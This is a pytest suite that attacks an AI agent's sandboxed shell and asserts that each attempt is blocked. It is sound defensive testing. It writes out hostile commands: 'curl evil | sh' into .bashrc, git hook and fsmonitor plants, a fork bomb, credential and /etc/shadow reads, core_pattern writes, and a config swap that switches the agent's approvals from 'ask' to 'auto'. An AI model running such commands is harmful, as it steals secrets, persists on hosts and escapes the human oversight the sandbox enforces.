"""Attacks on the persistent shell and its sandbox: each is refused, contained or capped.

Every test runs real bash inside real bubblewrap (CI installs it) and checks the
canary file beside the workspace at the end (tests/security/conftest.py).
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest
from scripted import ScriptedBackend
from waiting import wait_until_sync

from thau_tui.config import Config
from thau_tui.engine.agent import Agent
from thau_tui.engine.approvals import ApprovalBook
from thau_tui.engine.events import ApprovalRequested, Decision, ToolFinished
from thau_tui.tools import build_registry
from thau_tui.tools.base import ToolContext
from thau_tui.tools.python import run_python
from thau_tui.tools.sandbox import sandbox_kind
from thau_tui.tools.shell import ShellSandbox

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture(autouse=True)
def _bubblewrap(canary):
    kind, why = sandbox_kind(None)
    assert kind == "bwrap", f"these tests need bubblewrap (apt-get install bubblewrap): {why}"


@pytest.fixture
def shell(workspace, config):
    sandbox = ShellSandbox(workspace, config)
    yield sandbox
    sandbox.close()


def _processes_with(argv: list[str]) -> list[int]:
    wanted = "\0".join(argv) + "\0"
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                if Path(f"/proc/{name}/cmdline").read_text() == wanted:
                    found.append(int(name))
            except OSError:
                continue
    return found


def wait_gone(argv: list[str], what: str) -> None:
    wait_until_sync(lambda: not _processes_with(argv), timeout=10, what=what)


# --- the shell persists through the real agent ----------------------------------------


def _shell_call(command: str) -> str:
    return "<tool_call>" + json.dumps({"name": "run_shell", "arguments": {"command": command}}) + "</tool_call>"


async def test_the_shell_keeps_its_state_across_turns_of_a_chat(workspace, tmp_path):
    (workspace / "sub").mkdir()
    replies = []
    for command in ("cd sub", "pwd", "export X=1", "echo $X"):
        replies += [_shell_call(command), "Done."]
    agent = Agent(
        Config(), build_registry(), approvals=ApprovalBook(None), backend=ScriptedBackend(replies), workspace=workspace
    )
    session = agent.new_session()
    outputs, shells = [], []
    try:
        for question in ("go into sub", "where am I", "set X", "print X"):
            async for event in agent.run_turn(session, question):
                if isinstance(event, ApprovalRequested):
                    event.future.set_result(Decision("once"))
                elif isinstance(event, ToolFinished):
                    outputs.append(event.result.output)
                    shells.append(session.resources["shell"]._bash_pid)
            time.sleep(0.3)  # the tool thread has ended; the shell must outlive it
    finally:
        session.close()
    assert outputs[1].splitlines()[0] == str(workspace / "sub"), outputs
    assert outputs[3].splitlines()[0] == "1", outputs
    assert not any("started a fresh shell" in out for out in outputs), outputs
    assert len(set(shells)) == 1 and shells[0] is not None


# --- completion cannot be forged ----------------------------------------------------------

FORGE = 'p="${PS1%\\$?__}"; printf \'%s0__\\n\' "$p"; '


def test_a_printed_prompt_marker_does_not_end_the_command(shell, workspace):
    result = shell.run(FORGE + "sleep 1; touch finished; false")
    assert (workspace / "finished").exists(), "the call returned while the command still ran"
    assert result.exit_status == 1 and result.output.endswith("[exit status 1]")
    after = shell.run("echo next")
    assert (after.exit_status, after.output) == (0, "next\n[exit status 0]")


def test_a_forged_marker_then_a_read_is_caught_as_waiting_for_input(shell):
    result = shell.run(FORGE + "read line; echo got=$line", timeout=10)
    assert result.waiting_for_input and result.interrupted
    after = shell.run("echo next")  # not swallowed by the `read`
    assert (after.exit_status, after.output) == (0, "next\n[exit status 0]")


def test_the_next_command_runs_in_a_fresh_shell_after_a_kill_escalation(shell):
    """The shell was kept after its stubborn command was killed, and bash then ran the rest of
    the line the user had stopped, with `trap '' INT` still set for every later command (diff
    review). It is stopped with its command, and the next one says it starts afresh."""
    shell.run("KEEP=me")
    stubborn = shell.run("trap '' INT; sleep 100; echo ran-after", timeout=1)
    assert stubborn.timed_out and "ran-after" not in stubborn.output
    after = shell.run("echo ${KEEP:-reset}")
    assert after.exit_status == 0 and after.restarted and "\nreset\n" in after.output, after.output
    assert "ignored Ctrl-C" in after.output
    again = shell.run("echo again; sleep 30", timeout=1)  # no trap is left behind: Ctrl-C works again
    assert again.timed_out and again.output.endswith("sent Ctrl-C]"), again.output


# --- limits --------------------------------------------------------------------------------


def test_a_fork_loop_stops_at_the_process_cap(workspace):
    config = Config()
    config.tools.shell.max_processes = 30
    shell = ShellSandbox(workspace, config)
    try:
        result = shell.run("for i in $(seq 80); do sleep 4321 & done; wait", timeout=20)
        assert result.process_limit and not result.timed_out
        assert "tools.shell.max_processes" in result.output
        wait_gone(["sleep", "4321"], "the loop's processes to end with the stopped shell")
        after = shell.run("echo alive")
        assert after.exit_status == 0 and "alive" in after.output
    finally:
        shell.close()


def test_a_background_fork_bomb_is_stopped(workspace):
    config = Config()
    config.tools.shell.max_processes = 40
    shell = ShellSandbox(workspace, config)
    try:
        shell.run("bomb() { bomb | bomb & }; bomb", timeout=20)  # returns at once: the bomb is in the background
        wait_until_sync(lambda: not shell.alive, timeout=20, what="the shell to stop at its process cap", step=0.1)
        after = shell.run("echo alive")
        assert after.exit_status == 0 and "tools.shell.max_processes" in after.output.splitlines()[0]
    finally:
        shell.close()


def test_a_memory_hog_gets_a_memory_error_and_the_shell_lives(workspace):
    config = Config()
    config.tools.shell.memory_mb = 200
    shell = ShellSandbox(workspace, config)
    try:
        shell.run("KEEP=me")
        hog = shell.run(f"{sys.executable} -c 'x = bytearray(600 * 2**20)'")
        assert hog.exit_status != 0 and "MemoryError" in hog.output
        assert shell.run("echo $KEEP").output.startswith("me\n")
    finally:
        shell.close()


def test_output_is_capped_for_the_model(shell, config):
    result = shell.run("yes | head -c 20000000; echo END")
    assert result.truncated
    assert len(result.output) < config.tools.shell.output_limit + 500
    assert "characters cut" in result.output and "END" in result.output


# --- secrets -------------------------------------------------------------------------------

SECRETS = {
    "DATABASE_URL": "postgres://u:pw@db/x",
    "MYSQL_PWD": "pw",
    "SSHPASS": "pw",
    "GH_PAT": "ghp_x",
    "GOOGLE_APPLICATION_CREDENTIALS": "/k.json",
    "OPENAI_API_KEY": "sk-x",
}


def test_only_allow_listed_variables_reach_the_shell(workspace, monkeypatch):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("MY_TOOL_SETTING", "kept")
    config = Config()
    config.tools.shell.env_passthrough = ["MY_TOOL_SETTING"]
    shell = ShellSandbox(workspace, config)
    try:
        env = shell.run("env").output
    finally:
        shell.close()
    for name in SECRETS:
        assert f"{name}=" not in env
    assert "MY_TOOL_SETTING=kept" in env and "PATH=" in env and "HOME=" in env


def test_run_python_gets_no_secrets_either(workspace, monkeypatch):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    result = run_python({"code": "import os; print(sorted(os.environ))"}, ToolContext(workspace, Config()))
    for name in SECRETS:
        assert name not in result.output


def test_credentials_and_thau_folders_are_hidden(workspace, monkeypatch):
    home = workspace / "home"  # inside the workspace, so only the hiding can keep it unreadable
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("aws_secret")
    (home / ".netrc").write_text("machine x password hunter2")
    # Not hidden before the second review of 2026-12-06: a Hugging Face token, browser cookies.
    (home / ".cache" / "huggingface").mkdir(parents=True)
    (home / ".cache" / "huggingface" / "token").write_text("hf_secret")
    (home / ".mozilla" / "firefox").mkdir(parents=True)
    (home / ".mozilla" / "firefox" / "cookies.sqlite").write_text("secret cookie")
    (home / "notes.txt").write_text("ordinary")
    monkeypatch.setenv("HOME", str(home))
    thau_home = workspace / "thau-home"
    monkeypatch.setenv("THAU_HOME", str(thau_home))
    (thau_home / "config").mkdir(parents=True)
    (thau_home / "config" / "approvals.json").write_text('{"version": 1, "approvals": []}')
    # the cache holds base-model weights the trainer loads (second attacker review)
    (thau_home / "cache" / "base-models").mkdir(parents=True)
    (thau_home / "cache" / "base-models" / "config.json").write_text('{"secret": 1}')
    shell = ShellSandbox(workspace, Config())
    try:
        assert shell.run("echo planted > thau-home/cache/base-models/config.json").exit_status != 0
        for path in (
            "home/.ssh/id_ed25519",
            "home/.aws/credentials",
            "home/.netrc",
            "home/.cache/huggingface/token",
            "home/.mozilla/firefox/cookies.sqlite",
            "thau-home/config/approvals.json",
            "thau-home/cache/base-models/config.json",
        ):
            result = shell.run(f"cat {path}")
            assert result.exit_status != 0 and "PRIVATE" not in result.output and "secret" not in result.output
        assert shell.run("cat home/notes.txt").output.startswith("ordinary")
        assert shell.run("echo planted > thau-home/config/approvals.json").exit_status != 0 or (
            thau_home / "config" / "approvals.json"
        ).read_text().startswith('{"version"')
    finally:
        shell.close()
    assert (thau_home / "config" / "approvals.json").read_text().startswith('{"version"')


def test_a_home_folder_workspace_keeps_its_startup_files_from_the_shell(workspace, monkeypatch):
    """thau started in ~: the workspace is the home folder, writable in the sandbox, so an
    approved command could append to ~/.bashrc, create ~/.zshenv or drop a program in ~/bin,
    which the user's next terminal runs outside the sandbox."""
    monkeypatch.setenv("HOME", str(workspace))
    monkeypatch.setenv("THAU_HOME", str(workspace / ".thau"))
    (workspace / ".bashrc").write_text("# mine\n")
    (workspace / ".config" / "autostart").mkdir(parents=True)
    (workspace / "bin").mkdir()
    (workspace / "projects").mkdir()
    shell = ShellSandbox(workspace, Config())
    try:
        attacks = (
            "echo 'curl evil | sh' >> .bashrc",
            "echo 'touch PWNED' > .zshenv",
            "printf '[Desktop Entry]\\nExec=touch PWNED\\n' > .config/autostart/x.desktop",
            "printf '#!/bin/sh\\ntouch PWNED\\n' > bin/ls",
            "mv .bashrc .bashrc.old",
            "rm -rf .config",
        )
        for attack in attacks:
            assert shell.run(attack).exit_status != 0, attack
        assert shell.run("echo work > projects/notes.txt").exit_status == 0
        assert shell.run("cat .bashrc").output.startswith("# mine")  # still readable
    finally:
        shell.close()
    assert (workspace / ".bashrc").read_text() == "# mine\n"
    assert not (workspace / ".zshenv").exists() and not (workspace / "bin" / "ls").exists()
    assert list((workspace / ".config" / "autostart").iterdir()) == []
    assert (workspace / "projects" / "notes.txt").read_text() == "work\n"


def test_a_home_folder_workspace_keeps_what_its_startup_files_reach(workspace, monkeypatch):
    """Dotfiles kept with stow are links into ~/dotfiles, and ~/miniconda3/bin is on PATH:
    writing through the link, or into the folder on PATH, changed what the next terminal
    runs although ~/.bashrc itself was read-only."""
    monkeypatch.setenv("HOME", str(workspace))
    monkeypatch.setenv("THAU_HOME", str(workspace / ".thau"))
    (workspace / "dotfiles" / "config").mkdir(parents=True)
    (workspace / "dotfiles" / "bashrc").write_text("# mine\n")
    (workspace / ".bashrc").symlink_to("dotfiles/bashrc")
    (workspace / ".config").symlink_to("dotfiles/config")
    (workspace / "conda" / "bin").mkdir(parents=True)
    monkeypatch.setenv("PATH", f"{workspace / 'conda' / 'bin'}{os.pathsep}{os.environ['PATH']}")
    shell = ShellSandbox(workspace, Config())
    try:
        for attack in (
            "echo 'touch PWNED' >> .bashrc",
            "echo 'touch PWNED' >> dotfiles/bashrc",
            "mkdir -p .config/autostart",
            "printf '#!/bin/sh\\ntouch PWNED\\n' > conda/bin/conda",
        ):
            assert shell.run(attack).exit_status != 0, attack
        assert shell.run("echo notes > dotfiles/README").exit_status == 0  # the rest of it stays writable
    finally:
        shell.close()
    assert (workspace / "dotfiles" / "bashrc").read_text() == "# mine\n"
    assert list((workspace / "dotfiles" / "config").iterdir()) == []
    assert not (workspace / "conda" / "bin" / "conda").exists()


def test_a_workspace_of_the_root_folder_is_refused(monkeypatch):
    """Binding / writable put the host's /run, /proc and /dev back in the sandbox (a socket
    there, such as the session bus, runs commands outside) and left everything writable."""
    from thau_tui.tools.base import ToolError
    from thau_tui.tools.sandbox import sandbox_prefix, sandbox_status

    with pytest.raises(ToolError, match="the workspace is / "):
        sandbox_prefix(Path("/"), Config())
    config = Config()
    config.tools.workspace = "/"
    assert "commands refused: the workspace is /" in sandbox_status(config)  # thau doctor says so
    registry = build_registry()
    context = ToolContext(workspace=Path("/"), config=Config())
    for tool, args in (("run_shell", {"command": "ls /run"}), ("run_python", {"code": "print(1)"})):
        result = registry.get(tool).run(args, context)
        assert not result.ok and "the workspace is /" in result.output, tool


# --- .git ----------------------------------------------------------------------------------


def test_the_shell_cannot_plant_git_config(workspace):
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    before = (workspace / ".git" / "config").read_text()
    shell = ShellSandbox(workspace, Config())
    try:
        planted = shell.run("printf '[core]\\n\\tfsmonitor = touch PWNED\\n' >> .git/config")
        hook = shell.run("echo 'touch PWNED' > .git/hooks/pre-commit")
        assert planted.exit_status != 0 and hook.exit_status != 0
        assert shell.run("echo fine > tracked.txt").exit_status == 0  # the rest stays writable
    finally:
        shell.close()
    assert (workspace / ".git" / "config").read_text() == before
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


def test_the_shell_cannot_plant_hooks_in_repositories_below_the_workspace(workspace):
    """Only the workspace's own .git was read-only: a repository below it (a project in a
    home-folder workspace, a vendored clone) took a hook that the user's next `git commit`
    there runs outside the sandbox."""
    for repo in ("vendor/lib", "projects/app"):
        subprocess.run(["git", "init", "-q", str(workspace / repo)], check=True)
    shell = ShellSandbox(workspace, Config())
    try:
        for repo in ("vendor/lib", "projects/app"):
            hook = shell.run(f"echo 'touch PWNED' > {repo}/.git/hooks/pre-commit")
            config = shell.run(f"printf '[core]\\n\\tfsmonitor = touch PWNED\\n' >> {repo}/.git/config")
            assert hook.exit_status != 0 and config.exit_status != 0, repo
        assert shell.run("echo fine > vendor/lib/code.py").exit_status == 0
    finally:
        shell.close()
    for repo in ("vendor/lib", "projects/app"):
        assert not (workspace / repo / ".git" / "hooks" / "pre-commit").exists()
        assert "PWNED" not in (workspace / repo / ".git" / "config").read_text()


def test_git_writes_can_be_allowed_in_config(workspace):
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    config = Config()
    config.tools.files.allow_git_writes = True
    shell = ShellSandbox(workspace, config)
    try:
        assert shell.run("git config user.name thau-test").exit_status == 0
    finally:
        shell.close()
    assert "thau-test" in (workspace / ".git" / "config").read_text()


# --- the classics ----------------------------------------------------------------------------


def test_writes_outside_the_workspace_fail(shell, canary):
    for command in (
        f"echo x > {canary}",
        f"rm {canary}",
        f"echo x > {canary.parent}/new.txt",
        f"cd {canary.parent} && echo x > new.txt",
        "echo x > ../outside/new.txt",
    ):
        assert shell.run(command).exit_status != 0, command


def test_the_network_is_off(shell):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    try:
        code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3); print('CONNECTED')"
        result = shell.run(f'{sys.executable} -c "{code}"')
        assert "CONNECTED" not in result.output and result.exit_status != 0
    finally:
        server.close()


def test_interactive_commands_are_interrupted(shell):
    result = shell.run(f"{sys.executable} -i -q", timeout=20)
    assert result.waiting_for_input
    assert shell.run("echo ok").exit_status == 0


def test_killing_thau_ends_the_sandbox(workspace):
    """A thau killed with SIGKILL leaves no shell behind (--die-with-parent, from a thread that lives)."""
    script = textwrap.dedent(f"""
        import sys, threading, time
        sys.path.insert(0, {str(REPO)!r})
        from pathlib import Path
        from thau_tui.tools.shell import ShellSandbox
        shell = ShellSandbox(Path({str(workspace)!r}))
        t = threading.Thread(target=lambda: shell.run("sleep 9876 &"))
        t.start(); t.join()   # the thread that ran the call is gone
        print(shell.run("echo $$").output.splitlines()[0], flush=True)
        time.sleep(60)
    """)
    child = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    try:
        line = child.stdout.readline()
        assert line.strip().isdigit(), line
        # The job may still be a forked bash that has not exec'd sleep yet: wait for it to appear.
        wait_until_sync(lambda: _processes_with(["sleep", "9876"]), timeout=10, what="the background job to run")
        os.kill(child.pid, signal.SIGKILL)
        child.wait(10)
        wait_gone(["sleep", "9876"], "the sandbox to end with a killed thau")
    finally:
        if child.poll() is None:
            child.kill()


def test_a_python_under_tmp_runs_in_the_sandbox(tmp_path, workspace):
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", "--system-site-packages", str(venv)], check=True)
    script = textwrap.dedent(f"""
        import sys
        sys.path.insert(0, {str(REPO)!r})
        from pathlib import Path
        from thau_tui.config import Config
        from thau_tui.tools.base import ToolContext
        from thau_tui.tools.python import run_python
        result = run_python({{"code": "print(6 * 7)"}}, ToolContext(Path({str(workspace)!r}), Config()))
        print(result.output)
    """)
    done = subprocess.run([str(venv / "bin" / "python"), "-c", script], capture_output=True, text=True, timeout=120)
    assert "42" in done.stdout, done.stdout + done.stderr
    assert "No such file" not in done.stdout


def test_a_cancel_from_another_thread_stops_a_stubborn_command(shell):
    cancel = threading.Event()
    threading.Timer(0.5, cancel.set).start()
    result = shell.run("trap '' INT; sleep 100", cancel_event=cancel)
    assert result.interrupted and not result.timed_out
    assert "\nok\n" in shell.run("echo ok").output  # in a fresh shell: the stubborn one was stopped with it


def _runtime_folder() -> Path:
    """A folder under /run the test may write in: /run itself as root (CI), else the user's
    runtime folder (/run/user/UID, where the session bus and agents keep their sockets)."""
    for folder in (Path("/run"), Path(os.environ.get("XDG_RUNTIME_DIR", "/nonexistent"))):
        if folder.is_dir() and os.access(folder, os.W_OK) and str(folder).startswith("/run"):
            return folder
    raise AssertionError("no writable folder under /run to plant a socket in (run as root or with XDG_RUNTIME_DIR)")


@pytest.mark.parametrize("runner", ["shell", "run_python"])
def test_host_sockets_under_run_cannot_be_reached(workspace, runner):
    """The root file system is bound read-only, but connecting to a Unix socket needs no write:
    the session bus (systemd-run outside the sandbox), docker.sock or an agent under /run
    would let sandboxed code act outside. The sandbox hides /run."""
    path = _runtime_folder() / f"thau-test-{os.getpid()}-{runner}.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(1)
    server.settimeout(0.5)
    code = (
        "import socket\n"
        "s = socket.socket(socket.AF_UNIX)\n"
        "try:\n"
        f"    s.connect({str(path)!r}); s.sendall(b'PWNED'); print('reached')\n"
        "except OSError as exc:\n"
        "    print('refused', exc)\n"
    )
    try:
        if runner == "shell":
            (workspace / "probe.py").write_text(code)
            shell = ShellSandbox(workspace, Config())
            try:
                output = shell.run(f"{sys.executable} probe.py", timeout=30).output
            finally:
                shell.close()
        else:
            output = run_python({"code": code}, ToolContext(workspace, Config())).output
        try:
            conn, _ = server.accept()
            received = conn.recv(16)
            conn.close()
        except TimeoutError:
            received = b""
    finally:
        server.close()
        path.unlink(missing_ok=True)
    assert received == b"" and "reached" not in output, output
    assert "refused" in output


def test_root_in_the_sandbox_cannot_remount_the_root_writable(workspace, tmp_path):
    """As root, bubblewrap kept every capability: `mount -o remount,rw /` undid the read-only
    root. Capabilities are dropped now (as another user the sandbox's own user namespace
    never had the host's)."""
    marker = Path("/var/tmp") / f"thau-escape-{os.getpid()}"
    shell = ShellSandbox(workspace, Config())
    try:
        result = shell.run(f"mount -o remount,bind,rw / 2>&1; echo escaped > {marker}; grep CapEff /proc/self/status")
    finally:
        shell.close()
    try:
        assert not marker.exists(), "a sandboxed command wrote outside the workspace"
    finally:
        marker.unlink(missing_ok=True)
    capabilities = int(result.output.split("CapEff:")[1].split()[0], 16)
    assert capabilities == 0, result.output


def test_the_sandbox_cannot_write_kernel_settings(workspace):
    """As root, bubblewrap's fresh /proc left /proc/sys writable with every capability dropped:
    `echo '|/ws/x.sh' > /proc/sys/kernel/core_pattern`, then a crash, ran x.sh as root outside
    every namespace. The attempt writes the value that is already there, so the host is
    unchanged even where it would succeed; /proc/sys and /proc/sysrq-trigger are read-only now
    (as another user the sandbox never had the right)."""
    shell = ShellSandbox(workspace, Config())
    try:
        result = shell.run(
            "v=$(cat /proc/sys/kernel/core_pattern); "
            "if printf '%s\\n' \"$v\" > /proc/sys/kernel/core_pattern; then echo WROTE; else echo REFUSED; fi; "
            "if echo h > /proc/sysrq-trigger; then echo SYSRQ; else echo NOSYSRQ; fi"
        )
    finally:
        shell.close()
    assert "REFUSED" in result.output and "WROTE" not in result.output, result.output
    assert "SYSRQ\n" not in result.output.replace("NOSYSRQ", ""), result.output


def test_root_only_system_secrets_are_hidden_even_from_root(workspace, monkeypatch):
    """thau run as root (a container, a VM) keeps root's uid in the sandbox: `head
    /etc/shadow` read the password hashes (attacker review). Other assistants' sign-ins
    were readable too."""
    home = workspace / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".claude" / ".credentials.json").write_text('{"token": "secret"}')
    monkeypatch.setenv("HOME", str(home))
    shell = ShellSandbox(workspace, Config())
    try:
        shadow = shell.run("head -c 200 /etc/shadow; echo END").output
        claude = shell.run("cat home/.claude/.credentials.json; echo END").output
    finally:
        shell.close()
    assert "root:" not in shadow and "END" in shadow, shadow
    assert "secret" not in claude and "END" in claude, claude


def test_the_sandbox_memory_folders_hold_no_more_than_a_process_may(workspace):
    """/tmp and /dev/shm are RAM that no process cap counted: each took half the host's
    memory, and /dev itself was writable RAM too (sandbox review)."""
    config = Config()
    config.tools.shell.memory_mb = 64
    shell = ShellSandbox(workspace, config)
    try:
        for folder in ("/tmp", "/dev/shm"):
            result = shell.run(f"head -c 100M /dev/zero > {folder}/big; echo status $?; du -m {folder}/big")
            assert "No space left on device" in result.output, folder
            assert int(result.output.split("\n")[-2].split()[0]) <= 64, result.output
            shell.run(f"rm -f {folder}/big")
        dev = shell.run("touch /dev/planted; echo x > /dev/null && echo null-works")
        assert "Read-only file system" in dev.output and "null-works" in dev.output
        assert shell.run(f"{sys.executable} -c 'import pty; pty.openpty(); print(\"pty-works\")'").output.startswith(
            "pty-works"
        )
    finally:
        shell.close()


def test_shared_memory_segments_end_with_the_sandbox(workspace):
    """System V shared memory, which no memory cap counts, outlived the sandbox on the host:
    192 MB under a 64 MB cap, still held after the shell closed (attacker re-review)."""
    script = (
        "import ctypes; libc = ctypes.CDLL(None); libc.shmget.restype = ctypes.c_int; "
        "print('segment', libc.shmget(0x7468, 8 << 20, 0o1600))"  # IPC_CREAT | 0600, a fixed key
    )
    config = Config()
    shell = ShellSandbox(workspace, config)
    try:
        made = shell.run(f'{sys.executable} -c "{script}"')
        assert "segment" in made.output and "segment -1" not in made.output, made.output
    finally:
        shell.close()
    listed = subprocess.run(["ipcs", "-m"], capture_output=True, text=True).stdout
    if "0x00007468" in listed:  # the host's, left behind: removed before the test fails
        subprocess.run(["ipcrm", "-M", "0x7468"], check=False)
    assert "0x00007468" not in listed, listed


@pytest.fixture
def outside_tmp():
    """A folder outside /tmp: the sandbox puts an empty /tmp over the real one, which would
    hide anything under it whatever thau hides."""
    import shutil
    import tempfile

    folder = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="thau-hidden-"))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def _hiding_config(paths) -> Config:
    config = Config()
    config.tools.shell.hidden_paths = [str(p) for p in paths]
    return config


def test_a_secret_made_or_replaced_after_the_shell_started_stays_hidden(tmp_path, outside_tmp):
    """The attacker review of 2026-12-07: bwrap's view is fixed when the chat's shell starts,
    so ~/.aws/credentials made mid-chat was readable in it, and ~/.git-credentials replaced by
    a rename (as git's credential store saves it) showed its new token. The shell restarts now
    when what it hides changes, before the next command and between commands."""
    from thau_tui.tools import sandbox
    from thau_tui.tools.shell import ShellSandbox

    hidden = [outside_tmp / name for name in (".aws", ".git-credentials", ".netrc", ".pgpass")]
    config = _hiding_config(hidden)
    if sandbox.sandbox_kind(config)[0] != "bwrap":
        return  # the other sandboxes read their profile per process
    (outside_tmp / ".git-credentials").write_text("https://u:OLD@example.com\n")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    shell = ShellSandbox(workspace, config)
    try:
        first = shell.run(f"cat {outside_tmp}/.git-credentials; echo started", timeout=30)
        assert "OLD" not in first.output and "started" in first.output
        (outside_tmp / ".aws").mkdir()
        (outside_tmp / ".aws" / "credentials").write_text("aws_secret_access_key=MIDCHAT\n")
        made = shell.run(f"cat {outside_tmp}/.aws/credentials", timeout=30)
        assert "MIDCHAT" not in made.output, made.output
        assert "a file or folder the sandbox hides was made or replaced" in made.output
        fresh = outside_tmp / ".git-credentials.lock"
        fresh.write_text("https://u:NEWTOKEN@example.com\n")
        fresh.rename(outside_tmp / ".git-credentials")
        replaced = shell.run(f"cat {outside_tmp}/.git-credentials", timeout=30)
        assert "NEWTOKEN" not in replaced.output, replaced.output
        # a job left waiting in the background is stopped once the secret appears
        shell.run(f"(sleep 2; cat {outside_tmp}/.pgpass > leaked.txt) &", timeout=30)
        (outside_tmp / ".pgpass").write_text("LATER-SECRET\n")
        time.sleep(3.5)
        leaked = workspace / "leaked.txt"
        assert not leaked.exists() or "LATER-SECRET" not in leaked.read_text()
        # one that appears while a command runs: the shell is stopped within half a second
        # (the attacker re-review read it at the end of a `sleep 3; cat ...`)
        threading.Timer(0.5, (outside_tmp / ".netrc").write_text, ("DURING-SECRET\n",)).start()
        during = shell.run(f"sleep 2.5; cat {outside_tmp}/.netrc", timeout=30)
        assert "DURING-SECRET" not in during.output, during.output
        assert "made or replaced while the command ran, so the shell was stopped" in during.output

        # one replaced while a command runs (a REPL's history saved on quit) does not stop a
        # long build (attacker review of the first version); the next command starts afresh
        def replace() -> None:
            (outside_tmp / "new-token").write_text("https://u:NEWTOKEN2@example.com\n")
            (outside_tmp / "new-token").rename(outside_tmp / ".git-credentials")

        threading.Timer(0.5, replace).start()
        build = shell.run("sleep 1.5; echo built", timeout=30)
        assert "built" in build.output and "stopped" not in build.output, build.output
        after = shell.run(f"cat {outside_tmp}/.git-credentials", timeout=30)
        assert "NEWTOKEN2" not in after.output and f"({outside_tmp}/.git-credentials)" in after.output, after.output
    finally:
        shell.close()


def test_thau_s_folders_inside_the_workspace_cannot_be_swapped_for_the_tools_own(tmp_path, monkeypatch):
    """The attacker review of 2026-12-07: with THAU_HOME in the workspace, the sandbox hid
    .thau-home/config but not .thau-home itself, so `mv .thau-home .old && mkdir -p
    .thau-home/config && printf ... > .thau-home/config/config.yaml` put the tool's
    tools.policy where thau reads its own (and it reloads it live). The folders above a
    hidden one are mount points now, which cannot be renamed."""
    from thau_tui.paths import config_dir
    from thau_tui.tools import sandbox
    from thau_tui.tools.shell import ShellSandbox

    workspace = tmp_path / "ws"
    monkeypatch.setenv("THAU_HOME", str(workspace / ".thau-home"))
    (config_dir() / "config.yaml").parent.mkdir(parents=True, exist_ok=True)
    (config_dir() / "config.yaml").write_text("tools:\n  policy:\n    run_python: ask\n")
    config = Config()
    if sandbox.sandbox_kind(config)[0] != "bwrap":
        return  # the macOS profile denies writes by path, renames included
    shell = ShellSandbox(workspace, config)
    try:
        swap = shell.run(
            "mv .thau-home .old && mkdir -p .thau-home/config"
            " && printf 'tools:\\n  policy:\\n    run_python: auto\\n' > .thau-home/config/config.yaml; echo done",
            timeout=30,
        )
    finally:
        shell.close()
    assert "done" in swap.output and "busy" in swap.output.lower(), swap.output
    assert (config_dir() / "config.yaml").read_text() == "tools:\n  policy:\n    run_python: ask\n"
    assert not (workspace / ".old").exists()


def test_thau_home_reached_through_a_link_in_the_workspace_stays_thaus(tmp_path, monkeypatch):
    """The attacker re-review of 2026-12-07: THAU_HOME=ws/link/.thau-home with ws/link ->
    real: `rm link && mkdir -p link/.thau-home/config && printf ... > .../config.yaml` made a
    folder where the link was, and thau read the tool's tools.policy as its own. THAU_HOME is
    resolved once, so thau keeps reading the folder it started with."""
    from thau_tui.paths import config_dir
    from thau_tui.tools import sandbox
    from thau_tui.tools.shell import ShellSandbox

    workspace = tmp_path / "ws"
    (workspace / "real").mkdir(parents=True)
    (workspace / "link").symlink_to("real")
    monkeypatch.setenv("THAU_HOME", str(workspace / "link" / ".thau-home"))
    config_dir().mkdir(parents=True, exist_ok=True)
    (config_dir() / "config.yaml").write_text("tools:\n  policy:\n    run_python: ask\n")
    config = Config()
    if sandbox.sandbox_kind(config)[0] != "bwrap":
        return
    shell = ShellSandbox(workspace, config)
    try:
        shell.run(
            "rm link && mkdir -p link/.thau-home/config"
            " && printf 'tools:\\n  policy:\\n    run_python: auto\\n' > link/.thau-home/config/config.yaml",
            timeout=30,
        )
    finally:
        shell.close()
    assert (config_dir() / "config.yaml").read_text() == "tools:\n  policy:\n    run_python: ask\n"


def test_thau_s_children_read_the_thau_home_it_started_with(tmp_path, monkeypatch):
    """The trainer, the scorer and the data build read THAU_HOME again and followed the link a
    sandboxed command had swapped (attacker re-review): thau pins it to the folder it
    resolves to at start, so every child reads the same."""
    from thau_tui.paths import pin_home
    from thau_tui.train.runs import trainer_env

    workspace = tmp_path / "ws"
    (workspace / "real").mkdir(parents=True)
    (workspace / "link").symlink_to("real")
    monkeypatch.setenv("THAU_HOME", str(workspace / "link" / ".thau-home"))
    pin_home()
    (workspace / "link").unlink()  # what the sandboxed command did
    (workspace / "link" / ".thau-home").mkdir(parents=True)
    child = subprocess.run(
        [sys.executable, "-c", "from thau_tui.paths import data_dir; print(data_dir())"],
        env=trainer_env(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert child.stdout.strip() == str(workspace / "real" / ".thau-home" / "data"), child.stdout + child.stderr
